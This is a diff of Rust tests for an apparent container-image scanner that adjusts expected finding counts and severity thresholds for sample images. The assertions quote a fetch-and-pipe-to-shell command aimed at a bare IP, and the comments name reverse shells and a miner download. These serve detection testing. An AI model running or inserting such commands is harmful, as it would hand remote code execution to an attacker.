@@ -113,15 +113,17 @@ fn text_groups_findings_by_severity_with_place_layer_and_state_and_redacts_secre
     assert!(text.contains("  image 1: webapp-debug (linux/amd64), 5 layers verified\n"), "{text}");
     // What is both severe and confident leads; the samples' deleted .env and config token are
     // published examples (confidence low): counted apart and listed last.
-    assert!(text.contains("    findings: 2 critical, 6 high, 3 medium, 1 low; 4 more at low confidence (1 medium, 3 low)\n"), "{text}");
+    // Critical: the cron reverse shell, the netcat shell, and start.sh fetching xmrig from a bare
+    // IP (high, one step up because the entrypoint runs it).
+    assert!(text.contains("    findings: 3 critical, 6 high, 3 medium, 1 low; 4 more at low confidence (1 medium, 3 low)\n"), "{text}");
     assert!(text.contains("    AT LOW CONFIDENCE (4)\n      medium secrets:database-url-password"), "{text}");
-    assert!(text.contains("    CRITICAL (2)\n      layerhound:reverse_shell_dev_tcp [high confidence]"), "{text}");
+    assert!(text.contains("    CRITICAL (3)\n      layerhound:reverse_shell_dev_tcp [high confidence]"), "{text}");
     assert!(text.contains("        /etc/cron.d/backup (layer 4, present)\n"), "{text}");
     assert!(text.contains("        /app/.env (layer 1, deleted)\n"), "{text}");
     assert!(text.contains("wget -qO- http://203.0.113.7/i.sh | sh"), "layers with created_by: {text}");
     assert!(!text.contains("wJalrXUtnFEMI") && !text.contains("ghp_FAKEexample"), "secrets are redacted: {text}");
     assert!(!text.contains('\x1b'), "no colour in a file");
-    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 49 findings, 0 errors; complete\n"), "{text}");
+    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 53 findings, 0 errors; complete\n"), "{text}");
 }
 
 #[test]
@@ -399,8 +401,10 @@ fn baseline_min_severity_and_fail_on_set_what_counts() {
     let new: Vec<&Value> =
         report["inputs"][0]["images"][1]["findings"].as_array().unwrap().iter().filter(|f| f["baseline"] == "new").collect();
     assert!(new.iter().any(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp"), "{new:#?}");
-    // webapp.docker.tar's worst finding is high.
-    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "critical", "-q"]).status.code(), Some(0));
+    // webapp.docker.tar's worst finding is critical at medium confidence (start.sh, which the
+    // entrypoint runs, fetches xmrig from a bare IP); nothing is critical at high confidence.
+    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "critical", "-q"]).status.code(), Some(1));
+    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "critical:high", "-q"]).status.code(), Some(0));
     assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "high", "-q"]).status.code(), Some(1));
     let high = layerhound(&["scan", "samples/webapp.docker.tar", "--min-severity", "high", "-q"]);
     let report: Value = serde_json::from_slice(&high.stdout).unwrap();
